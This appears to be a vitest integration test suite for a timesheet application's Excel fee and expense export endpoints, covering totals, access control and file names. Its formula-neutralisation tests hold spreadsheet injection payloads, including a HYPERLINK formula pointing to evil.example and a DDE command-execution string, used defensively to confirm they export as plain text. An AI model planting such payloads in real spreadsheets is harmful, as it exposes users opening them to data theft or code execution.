import { PassThrough } from "node:stream";
import { asc, eq, inArray, sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as exportExpenses } from "@/app/api/timesheets/[id]/export-expenses/route";
import { GET as exportFee } from "@/app/api/timesheets/[id]/export/route";
import { POST as batchExport } from "@/app/api/timesheets/batch/export/route";
import { POST as batchExportExpenses } from "@/app/api/timesheets/batch/export-expenses/route";
import type { Actor } from "@/server/auth/actor";
import { expenseRecords, files, rates, timesheetRecords, timesheets, user } from "@/server/db/schema";
import { EXPENSE_HEADERS } from "@/server/exports/expense-sheet";
import { FEE_HEADERS } from "@/server/exports/fee-sheet";
import { EXPENSE_COLUMNS, exportTimesheets, RECORD_COLUMNS, SUMMARY_COLUMNS } from "@/server/exports/export-timesheets";
import { EXPENSE_SUMMARY_COLUMNS } from "@/server/exports/export-timesheets-expenses";
import { listTimesheetExpenseTotals } from "@/server/services/timesheets/list-timesheet-expense-totals";
import { listTimesheetFees } from "@/server/services/timesheets/list-timesheet-fees";
import { rowsOf as rowsOfSql } from "@/server/db";
import { apiRequest } from "../../support/http";
import { countStatements } from "../../support/statement-counter";
import { API_KEY, createDemoDatabase, type DemoDatabase } from "../search/demo-database";
import { cents, openWorkbook, rowValues, sheetOf, sumCents, tableRows, totalsRows } from "./workbook";

let demo: DemoDatabase;
let ids: { amaraLast: string; amaraNow: string; lukasLast: string; lukasNow: string; sofiaFleetLast: string; sofiaGridOld: string };

const params = (id: string) => ({ params: Promise.resolve({ id }) });

function getExport(id: string, options: { cookie?: string; headers?: Record<string, string> } = {}) {
  return exportFee(apiRequest(`/api/timesheets/${id}/export`, options), params(id));
}

function getExpenses(id: string, options: { cookie?: string; headers?: Record<string, string> } = {}) {
  return exportExpenses(apiRequest(`/api/timesheets/${id}/export-expenses`, options), params(id));
}

function postBatch(handler: typeof batchExport, body: unknown, options: { cookie?: string; headers?: Record<string, string> } = {}) {
  return handler(apiRequest("/api/timesheets/batch/export", { body, ...options }), undefined);
}

async function recordsOf(timesheetId: string) {
  return demo.db
    .select({
      date: timesheetRecords.date,
      workSummary: timesheetRecords.workSummary,
      counterPart: timesheetRecords.counterPart,
      timeAmount: timesheetRecords.timeAmount,
      timeUnit: timesheetRecords.timeUnit,
      rate: rates.amount,
      currency: rates.currency,
    })
    .from(timesheetRecords)
    .innerJoin(rates, eq(rates.id, timesheetRecords.rateId))
    .where(eq(timesheetRecords.timesheetId, timesheetId))
    .orderBy(asc(timesheetRecords.date), asc(timesheetRecords.createdAt), asc(timesheetRecords.id));
}

async function feeOf(timesheetId: string) {
  return (await listTimesheetFees(demo.db, { timesheetIds: [timesheetId] })).get(timesheetId) ?? [];
}

function isoOf(value: ExcelJS.CellValue): string {
  expect(value).toBeInstanceOf(Date);
  return (value as Date).toISOString().slice(0, 10);
}

beforeAll(async () => {
  demo = await createDemoDatabase();
  ids = {
    amaraLast: await demo.timesheetId("amara@settle.local", "Grid Modernisation", -1),
    amaraNow: await demo.timesheetId("amara@settle.local", "Grid Modernisation", 0),
    lukasLast: await demo.timesheetId("lukas@settle.local", "Data Platform Migration", -1),
    lukasNow: await demo.timesheetId("lukas@settle.local", "Data Platform Migration", 0),
    sofiaFleetLast: await demo.timesheetId("sofia@settle.local", "Fleet Analytics", -1),
    sofiaGridOld: await demo.timesheetId("sofia@settle.local", "Grid Modernisation", -6),
  };
});

afterAll(async () => {
  await demo.database.dispose();
});

describe("GET /api/timesheets/{id}/export", () => {
  it("streams the fee of a daily-rate timesheet with typed cells and totals that match the database", async () => {
    const response = await getExport(ids.amaraLast, { cookie: demo.cookies.admin });
    const period = demo.current.previous().toString();
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="timesheet-amara-okafor-${period}.xlsx"; filename*=UTF-8''timesheet-amara-okafor-${period}.xlsx`,
    );
    const workbook = await openWorkbook(response);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["Timesheet"]);
    const sheet = sheetOf(workbook, "Timesheet");
    expect([1, 2, 3, 4, 5, 6].map((n) => rowValues(sheet, n, 2))).toEqual([
      ["Contractor", "Amara Okafor"],
      ["Project", "Grid Modernisation"],
      ["Client", "Northwind Energy"],
      ["Billing period", demo.current.previous().name],
      ["Status", "Due"],
      ["Fee status", "Due"],
    ]);
    expect(rowValues(sheet, 8, 7)).toEqual([...FEE_HEADERS]);

    const records = await recordsOf(ids.amaraLast);
    const rows = tableRows(sheet);
    expect(records.length).toBeGreaterThan(10);
    expect(rows).toHaveLength(records.length);
    rows.forEach((row, index) => {
      const record = records[index]!;
      const date = row.getCell(1);
      expect(date.type).toBe(ExcelJS.ValueType.Date);
      expect(isoOf(date.value)).toBe(record.date);
      expect(date.numFmt).toBe("dd mmm yyyy");
      expect([row.getCell(2).value, row.getCell(3).value, row.getCell(5).value]).toEqual([record.workSummary, record.counterPart, "DAYS"]);
      expect(row.getCell(4).value).toBe(Number(record.timeAmount));
      expect(row.getCell(6).value).toBe(850);
      expect(row.getCell(6).numFmt).toBe("[$EUR] #,##0.00");
      expect(row.getCell(7).value).toBe(850);
      expect(row.getCell(7).numFmt).toBe("[$EUR] #,##0.00");
    });

    const [fee] = await feeOf(ids.amaraLast);
    const totals = totalsRows(sheet);
    expect(rowValues(sheet, totals.get("Total days")!.number, 5)).toEqual(["Total days", null, null, records.length, "DAYS"]);
    expect(totals.get("Total hours")?.getCell(4).value).toBe(0);
    const feeRow = totals.get("Total fee (EUR)")!;
    expect(feeRow.getCell(7).value).toBe(Number(fee!.amount));
    expect(feeRow.getCell(7).numFmt).toBe("[$EUR] #,##0.00");
    expect(sumCents(rows.map((row) => row.getCell(7).value))).toBe(cents(fee!.amount));
  });

  it("shows an hourly timesheet's hours and a monthly rate pro rata, each column adding up to the fee", async () => {
    const lukas = sheetOf(await openWorkbook(await getExport(ids.lukasLast, { cookie: demo.cookies.admin })), "Timesheet");
    const lukasRecords = await recordsOf(ids.lukasLast);
    const hours = lukasRecords.reduce((total, r) => total + cents(r.timeAmount), 0) / 100;
    expect(totalsRows(lukas).get("Total hours")?.getCell(4).value).toBe(hours);
    expect(tableRows(lukas).every((row) => row.getCell(5).value === "HOURS")).toBe(true);
    const [lukasFee] = await feeOf(ids.lukasLast);
    expect(totalsRows(lukas).get("Total fee (CHF)")?.getCell(7).value).toBe(Number(lukasFee!.amount));

    const sofia = sheetOf(await openWorkbook(await getExport(ids.sofiaFleetLast, { headers: API_KEY })), "Timesheet");
    const [sofiaFee] = await feeOf(ids.sofiaFleetLast);
    const lines = tableRows(sofia).map((row) => row.getCell(7).value);
    expect(lines.length).toBeGreaterThan(10);
    expect(tableRows(sofia).every((row) => row.getCell(6).value === 42000 && row.getCell(6).numFmt === "[$AED] #,##0.00")).toBe(true);
    expect(sumCents(lines)).toBe(cents(sofiaFee!.amount));
    expect(totalsRows(sofia).get("Total fee (AED)")?.getCell(7).value).toBe(Number(sofiaFee!.amount));
  });

  it("lets a contractor export their own timesheet and nobody else's", async () => {
    const own = await openWorkbook(await getExport(ids.amaraLast, { cookie: demo.cookies.amara }));
    expect(own.worksheets.map((s) => s.name)).toEqual(["Timesheet"]);
    const other = await getExport(ids.lukasLast, { cookie: demo.cookies.amara });
    expect(other.status).toBe(404);
    expect(await other.json()).toEqual({ error: { code: "NOT_FOUND", key: "timesheetNotFound", message: "Timesheet not found." } });
  });

  it("answers 401 signed out, 404 for a malformed or unknown id", async () => {
    expect((await getExport(ids.amaraLast)).status).toBe(401);
    expect((await getExport("not-an-id", { cookie: demo.cookies.admin })).status).toBe(404);
    expect((await getExport("00000000-0000-4000-8000-000000000000", { cookie: demo.cookies.admin })).status).toBe(404);
  });

  it("exports a timesheet without records as an empty table with zero totals", async () => {
    const next = await demo.timesheetId("amara@settle.local", "Grid Modernisation", 1);
    const sheet = sheetOf(await openWorkbook(await getExport(next, { cookie: demo.cookies.admin })), "Timesheet");
    expect(tableRows(sheet)).toHaveLength(0);
    const totals = totalsRows(sheet);
    expect(totals.get("Total days")?.getCell(4).value).toBe(0);
    expect(totals.get("Total fee (EUR)")?.getCell(7).value).toBe(0);
  });
});

describe("GET /api/timesheets/{id}/export-expenses", () => {
  it("streams the expenses with original and converted amounts, receipts and the total", async () => {
    const response = await getExpenses(ids.amaraLast, { cookie: demo.cookies.amara });
    const period = demo.current.previous().toString();
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="expenses-amara-okafor-${period}.xlsx"; filename*=UTF-8''expenses-amara-okafor-${period}.xlsx`,
    );
    const workbook = await openWorkbook(response);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["Expenses"]);
    const sheet = sheetOf(workbook, "Expenses");
    expect(rowValues(sheet, 6, 2)).toEqual(["Expenses status", "Prepared"]);
    expect(rowValues(sheet, 8, 9)).toEqual([...EXPENSE_HEADERS]);
    const expenses = await demo.db
      .select()
      .from(expenseRecords)
      .where(eq(expenseRecords.timesheetId, ids.amaraLast))
      .orderBy(asc(expenseRecords.date), asc(expenseRecords.createdAt), asc(expenseRecords.id));
    const rows = tableRows(sheet);
    expect(rows).toHaveLength(expenses.length);
    expect(expenses.length).toBe(3);
    for (const [index, row] of rows.entries()) {
      const expense = expenses[index]!;
      const [receipt] = await demo.db.select({ name: files.originalName }).from(files).where(eq(files.expenseRecordId, expense.id));
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Date);
      expect(isoOf(row.getCell(1).value)).toBe(expense.date);
      expect(row.getCell(3).value).toBe(expense.details);
      expect(row.getCell(4).value).toBe(Number(expense.amountInExpenseCurrency));
      expect(row.getCell(4).numFmt).toBe(`[$${expense.expenseCurrency}] #,##0.00`);
      expect(row.getCell(5).value).toBe(expense.expenseCurrency);
      expect(row.getCell(6).value).toBe(Number(expense.exchangeRate));
      expect(row.getCell(7).value).toBe(Number(expense.amount));
      expect(row.getCell(7).numFmt).toBe("[$EUR] #,##0.00");
      expect(row.getCell(8).value).toBe("EUR");
      expect(row.getCell(9).value).toBe(receipt?.name);
    }
    expect(rows[0]?.getCell(2).value).toBe("Flights");
    const [total] = (await listTimesheetExpenseTotals(demo.db, { timesheetIds: [ids.amaraLast] })).get(ids.amaraLast) ?? [];
    const totalRow = totalsRows(sheet).get("Total (EUR)")!;
    expect([totalRow.getCell(7).value, totalRow.getCell(8).value]).toEqual([Number(total!.amount), "EUR"]);
    expect(sumCents(rows.map((row) => row.getCell(7).value))).toBe(cents(total!.amount));
  });

  it("keeps other people's expenses out of reach", async () => {
    expect((await getExpenses(ids.amaraLast, { cookie: demo.cookies.lukas })).status).toBe(404);
    expect((await getExpenses(ids.amaraLast)).status).toBe(401);
    expect((await getExpenses(ids.amaraLast, { headers: API_KEY })).status).toBe(200);
  });
});

describe("POST /api/timesheets/batch/export", () => {
  it("is one workbook for analysis: Summary, Records and Expenses tables whose rows and totals match the database", async () => {
    const unique = [ids.amaraLast, ids.sofiaFleetLast, ids.sofiaGridOld, ids.lukasLast];
    // An expense in another currency than the fee, so the Expenses sheet has rows and converts.
    await demo.db.insert(expenseRecords).values({
      timesheetId: ids.sofiaFleetLast,
      date: `${demo.current.previous().toString()}-04`,
      category: "ACCOMMODATION_AND_MEALS",
      details: "Hotel",
      amount: "412.50",
      amountInExpenseCurrency: "100.00",
      expenseCurrency: "EUR",
      exchangeRate: "4.12500000",
      originalCurrency: "AED",
    });
    const response = await postBatch(batchExport, { ids: [...unique, ids.amaraLast] }, { cookie: demo.cookies.admin });
    const first = demo.current.plusMonths(-6).toString();
    const last = demo.current.previous().toString();
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="timesheets-${first}-to-${last}.xlsx"; filename*=UTF-8''timesheets-${first}-to-${last}.xlsx`,
    );
    const workbook = await openWorkbook(response);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Summary", "Records", "Expenses"]);
    const sheets = { Summary: SUMMARY_COLUMNS, Records: RECORD_COLUMNS, Expenses: EXPENSE_COLUMNS };
    for (const [name, columns] of Object.entries(sheets)) {
      const sheet = sheetOf(workbook, name);
      // A real Excel table over the whole sheet, under a frozen header row.
      const tables = sheet.getTables() as unknown as { table: { name: string; tableRef: string; columns: { name: string }[] } }[];
      expect(tables.map(({ table }) => [table.name, table.tableRef])).toEqual([[name, `A1:${String.fromCharCode(64 + columns.length)}${sheet.rowCount}`]]);
      expect(tables[0]!.table.columns.map((column) => column.name)).toEqual(columns.map((column) => column.header));
      expect(rowValues(sheet, 1, columns.length)).toEqual(columns.map((column) => column.header));
      expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    }
    const column = (name: keyof typeof sheets, header: string) => sheets[name].findIndex((c) => c.header === header) + 1;
    const rowsOf = (name: keyof typeof sheets) => {
      const sheet = sheetOf(workbook, name);
      return Array.from({ length: sheet.rowCount - 1 }, (_, i) => sheet.getRow(i + 2));
    };

    // Summary: one row per timesheet (each has one currency here), in the order asked for.
    const fees = await listTimesheetFees(demo.db, { timesheetIds: unique });
    const expenseTotals = await listTimesheetExpenseTotals(demo.db, { timesheetIds: unique });
    const summary = rowsOf("Summary");
    expect(summary.map((row) => row.getCell(column("Summary", "Timesheet ID")).value)).toEqual(unique);
    expect(summary[0]!.getCell(column("Summary", "Contractor")).value).toBe("Amara Okafor");
    expect(isoOf(summary[0]!.getCell(column("Summary", "Billing period")).value)).toBe(`${last}-01`);
    expect(summary[0]!.getCell(column("Summary", "Billing period")).numFmt).toBe("mmm yyyy");
    for (const row of summary) {
      const id = String(row.getCell(column("Summary", "Timesheet ID")).value);
      const [fee] = fees.get(id) ?? [];
      expect([row.getCell(column("Summary", "Fee")).value, row.getCell(column("Summary", "Currency")).value]).toEqual([Number(fee!.amount), fee!.currency]);
      expect(row.getCell(column("Summary", "Fee")).numFmt).toBe(`[$${fee!.currency}] #,##0.00`);
      const expenses = (expenseTotals.get(id) ?? []).find((total) => total.currency === fee!.currency);
      expect(cents(Number(row.getCell(column("Summary", "Expenses")).value ?? 0))).toBe(cents(expenses?.amount ?? "0"));
      const parts = ["Fee", "Expenses", "Bonus"].map((header) => Number(row.getCell(column("Summary", header)).value ?? 0));
      expect(cents(Number(row.getCell(column("Summary", "Total")).value))).toBe(sumCents(parts));
      const recorded = await recordsOf(id);
      const days = recorded.filter((r) => r.timeUnit === "DAYS").reduce((total, r) => total + cents(r.timeAmount), 0);
      expect(cents(Number(row.getCell(column("Summary", "Days")).value))).toBe(days);
    }

    // Records: every fee line, with its timesheet's keys; each timesheet's lines add up to its fee.
    const [counted] = rowsOfSql<{ n: number }>(
      await demo.db.execute(sql`select count(*)::int as n from timesheet_records where timesheet_id in ${sql.raw(`('${unique.join("','")}')`)}`),
    );
    const records = rowsOf("Records");
    expect(records).toHaveLength(counted!.n);
    for (const id of unique) {
      const lines = records.filter((row) => row.getCell(column("Records", "Timesheet ID")).value === id);
      expect(lines).toHaveLength((await recordsOf(id)).length);
      expect(sumCents(lines.map((row) => row.getCell(column("Records", "Line total")).value))).toBe(cents(fees.get(id)![0]!.amount));
    }
    expect(isoOf(records[0]!.getCell(column("Records", "Date")).value)).toBe((await recordsOf(unique[0]!))[0]!.date);

    // Expenses: every expense, converted totals per timesheet as the database sums them.
    const expenseRows = rowsOf("Expenses");
    const stored = await demo.db.select({ id: expenseRecords.id }).from(expenseRecords).where(inArray(expenseRecords.timesheetId, unique));
    expect(expenseRows).toHaveLength(stored.length);
    const hotel = expenseRows.find((row) => row.getCell(column("Expenses", "Details")).value === "Hotel");
    expect(
      ["Contractor", "Category", "Original amount", "Original currency", "Exchange rate", "Amount", "Currency"].map(
        (header) => hotel?.getCell(column("Expenses", header)).value,
      ),
    ).toEqual(["Sofia Haddad", "Accommodation and meals", 100, "EUR", 4.125, 412.5, "AED"]);
    for (const id of unique) {
      const mine = expenseRows.filter((row) => row.getCell(column("Expenses", "Timesheet ID")).value === id);
      const total = (expenseTotals.get(id) ?? []).reduce((sum, money) => sum + cents(money.amount), 0);
      expect(sumCents(mine.map((row) => row.getCell(column("Expenses", "Amount")).value))).toBe(total);
    }
    await demo.db.delete(expenseRecords).where(eq(expenseRecords.details, "Hotel"));
  });

  it("writes the batch in a bounded number of statements: 1 for the timesheets, then 4 per chunk, whatever the chunk holds", async () => {
    const service: Actor = { kind: "service", userId: null, role: "SERVICE_PRINCIPAL", name: "API", email: null, contractorId: null };
    const statementsFor = async (asked: string[]) => {
      const { count } = await countStatements(async () => {
        const download = await exportTimesheets(demo.db, service, asked, { expenses: true });
        const sink = new PassThrough();
        sink.resume();
        const writer = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: sink, useStyles: true, useSharedStrings: false });
        await download.fill(writer);
        await writer.commit();
      });
      return count;
    };
    // loadExportTimesheets, then for the one chunk: amounts and quantities (Summary), records, expenses.
    expect(await statementsFor([ids.amaraLast])).toBe(5);
    expect(await statementsFor(Object.values(ids))).toBe(5);
  });

  it("is all or nothing: an unknown id is a 404 naming it", async () => {
    const unknown = "00000000-0000-4000-8000-000000000000";
    const response = await postBatch(batchExport, { ids: [ids.amaraLast, unknown] }, { headers: API_KEY });
    expect(response.status).toBe(404);
    expect(await response.json()).toEqual({
      error: {
        code: "NOT_FOUND",
        key: "timesheetNotFound",
        message: "Timesheet not found.",
        issues: [{ path: "ids", key: "timesheetIdNotFound", values: { id: unknown }, message: `Timesheet ${unknown} not found.` }],
      },
    });
  });

  it("refuses bad bodies with 400 and 415", async () => {
    const cookie = demo.cookies.admin;
    const empty = await postBatch(batchExport, { ids: [] }, { cookie });
    expect(empty.status).toBe(400);
    expect(((await empty.json()) as { error: { issues: { message: string }[] } }).error.issues[0]?.message).toBe("Choose at least one timesheet.");
    // Past 10,000 timesheets: 413 before anything is read, saying what to do.
    const many = await postBatch(batchExport, { ids: Array.from({ length: 10_001 }, () => crypto.randomUUID()) }, { cookie });
    expect(many.status).toBe(413);
    const tooMany = (await many.json()) as { error: { code: string; message: string } };
    expect(tooMany.error.code).toBe("PAYLOAD_TOO_LARGE");
    expect(tooMany.error.message).toBe("Export at most 10,000 timesheets at once; this asked for 10,001. Narrow the selection or export in parts.");
    const notIds = await postBatch(batchExport, { ids: ["x"] }, { cookie });
    expect(((await notIds.json()) as { error: { issues: { path: string; message: string }[] } }).error.issues[0]).toEqual({
      path: "ids.0",
      key: "expectedIdUuid",
      message: "Expected an id (UUID).",
    });
    expect((await postBatch(batchExport, {}, { cookie })).status).toBe(400);
    const text = new Request("http://localhost:3000/api/timesheets/batch/export", {
      method: "POST",
      headers: { cookie, "content-type": "text/plain", origin: "http://localhost:3000" },
      body: ids.amaraLast,
    });
    expect((await batchExport(text, undefined)).status).toBe(415);
  });

  it("is for administrators only", async () => {
    expect((await postBatch(batchExport, { ids: [ids.amaraLast] }, { cookie: demo.cookies.amara })).status).toBe(403);
    expect((await postBatch(batchExport, { ids: [ids.amaraLast] })).status).toBe(401);
    expect((await postBatch(batchExportExpenses, { ids: [ids.amaraLast] }, { cookie: demo.cookies.amara })).status).toBe(403);
    expect((await postBatch(batchExportExpenses, { ids: [ids.amaraLast] })).status).toBe(401);
  });
});

describe("POST /api/timesheets/batch/export-expenses", () => {
  // #47.7: one analysis workbook like the fee workbook's, no longer a sheet per timesheet.
  it("is one analysis workbook: a Summary row per timesheet and currency, every expense in one Expenses table", async () => {
    const asked = [ids.amaraLast, ids.lukasLast, ids.sofiaFleetLast];
    const response = await postBatch(batchExportExpenses, { ids: asked }, { headers: API_KEY });
    const period = demo.current.previous().toString();
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="expenses-${period}.xlsx"; filename*=UTF-8''expenses-${period}.xlsx`);
    const workbook = await openWorkbook(response);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["Summary", "Expenses"]);
    const summary = sheetOf(workbook, "Summary");
    expect(rowValues(summary, 1, EXPENSE_SUMMARY_COLUMNS.length)).toEqual(EXPENSE_SUMMARY_COLUMNS.map((c) => c.header));
    const totals = await listTimesheetExpenseTotals(demo.db, { timesheetIds: asked });
    const summaryRows = tableRows(summary, 1);
    for (const id of asked) {
      const rows = summaryRows.filter((row) => row.getCell(EXPENSE_SUMMARY_COLUMNS.length).value === id);
      const expected = totals.get(id) ?? [];
      expect(rows.map((row) => [row.getCell(8).value, row.getCell(9).value])).toEqual(
        expected.length > 0 ? expected.map((total) => [Number(total.amount), total.currency]) : [[0, "AED"]],
      );
    }
    const expenseSheet = sheetOf(workbook, "Expenses");
    expect(rowValues(expenseSheet, 1, EXPENSE_COLUMNS.length)).toEqual(EXPENSE_COLUMNS.map((c) => c.header));
    const stored = await demo.db.select({ timesheetId: expenseRecords.timesheetId }).from(expenseRecords).where(inArray(expenseRecords.timesheetId, asked));
    const rows = tableRows(expenseSheet, 1);
    expect(rows).toHaveLength(stored.length);
    const items = new Map(summaryRows.map((row) => [row.getCell(EXPENSE_SUMMARY_COLUMNS.length).value, row.getCell(7).value]));
    for (const id of asked) expect(items.get(id)).toBe(rows.filter((row) => row.getCell(EXPENSE_COLUMNS.length).value === id).length);
  });
});

describe("formula neutralisation", () => {
  const hyperlink = '=HYPERLINK("http://evil.example/steal","Click me")';

  it("writes text that starts with = + - @ or a tab as quoted text, never as a formula", async () => {
    const [existing] = await demo.db.select({ rateId: timesheetRecords.rateId }).from(timesheetRecords).where(eq(timesheetRecords.timesheetId, ids.lukasNow));
    const day = `${demo.current.toString()}-02`;
    await demo.db.insert(timesheetRecords).values([
      { timesheetId: ids.lukasNow, date: day, rateId: existing!.rateId, workSummary: hyperlink, counterPart: "+1 555 0100", timeAmount: "1.00", timeUnit: "HOURS" },
      { timesheetId: ids.lukasNow, date: day, rateId: existing!.rateId, workSummary: "-2+3", counterPart: "@SUM(A1:A2)", timeAmount: "1.00", timeUnit: "HOURS" },
      { timesheetId: ids.lukasNow, date: day, rateId: existing!.rateId, workSummary: "\t=1+1", counterPart: "plain", timeAmount: "1.00", timeUnit: "HOURS" },
    ]);
    const sheet = sheetOf(await openWorkbook(await getExport(ids.lukasNow, { cookie: demo.cookies.lukas })), "Timesheet");
    const cells = tableRows(sheet).flatMap((row) => [row.getCell(2), row.getCell(3)]);
    const byValue = new Map(cells.map((cell) => [cell.value, cell]));
    for (const text of [hyperlink, "+1 555 0100", "-2+3", "@SUM(A1:A2)", "\t=1+1"]) {
      const cell = byValue.get(`'${text}`);
      expect(cell, text).toBeDefined();
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      expect(cell?.formula).toBeUndefined();
    }
    expect(byValue.has("plain")).toBe(true);
    expect(cells.some((cell) => cell.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it("neutralises expense details and names in the header block too", async () => {
    await demo.db.insert(expenseRecords).values({
      timesheetId: ids.amaraNow,
      date: `${demo.current.toString()}-03`,
      category: "OTHER",
      details: "=cmd|' /C calc'!A0",
      amount: "10.00",
      amountInExpenseCurrency: "10.00",
      expenseCurrency: "EUR",
      exchangeRate: "1.00000000",
      originalCurrency: "EUR",
    });
    const [amara] = await demo.db.select({ id: user.id }).from(user).where(eq(user.email, "amara@settle.local"));
    await demo.db.update(user).set({ name: "@Amara Okafor" }).where(eq(user.id, amara!.id));
    try {
      const response = await getExpenses(ids.amaraNow, { cookie: demo.cookies.admin });
      const sheet = sheetOf(await openWorkbook(response), "Expenses");
      expect(rowValues(sheet, 1, 2)).toEqual(["Contractor", "'@Amara Okafor"]);
      const details = tableRows(sheet).map((row) => row.getCell(3).value);
      expect(details).toContain("'=cmd|' /C calc'!A0");
    } finally {
      await demo.db.update(user).set({ name: "Amara Okafor" }).where(eq(user.id, amara!.id));
    }
  });
});

describe("file names", () => {
  it("gives an ASCII filename and the UTF-8 one in filename*", async () => {
    const [sofia] = await demo.db.select({ id: user.id }).from(user).where(eq(user.email, "sofia@settle.local"));
    await demo.db.update(user).set({ name: "Sofía Ñúñez \"Q\"" }).where(eq(user.id, sofia!.id));
    try {
      const response = await getExport(ids.sofiaFleetLast, { cookie: demo.cookies.admin });
      const period = demo.current.previous().toString();
      const utf8 = encodeURIComponent(`timesheet-sofía-ñúñez-q-${period}.xlsx`);
      expect(response.headers.get("content-disposition")).toBe(`attachment; filename="timesheet-sofia-nunez-q-${period}.xlsx"; filename*=UTF-8''${utf8}`);
      await openWorkbook(response);
    } finally {
      await demo.db.update(user).set({ name: "Sofia Haddad" }).where(eq(user.id, sofia!.id));
    }
  });

  it("keeps the timesheet rows untouched by exporting", async () => {
    const [row] = await demo.db.select({ version: timesheets.version }).from(timesheets).where(eq(timesheets.id, ids.amaraLast));
    expect(row?.version).toBe(1);
  });
});
